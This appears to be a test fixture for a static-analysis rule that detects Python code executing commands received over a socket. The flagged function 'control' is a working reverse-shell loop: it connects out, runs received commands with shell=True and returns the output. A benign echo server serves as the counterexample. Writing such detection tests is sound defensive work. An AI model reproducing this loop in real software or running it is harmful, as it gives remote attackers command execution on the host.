import socket
import subprocess


def control(host, port):
    s = socket.create_connection((host, port))
    while True:
        cmd = s.recv(4096).decode()
        if not cmd:
            break
        # ruleid: py-socket-command-exec
        out = subprocess.run(cmd, shell=True, capture_output=True)
        s.sendall(out.stdout)


def echo_server(conn):
    data = conn.recv(1024)
    # ok: py-socket-command-exec
    subprocess.run(["logger", "received", str(len(data))])
    conn.sendall(data)
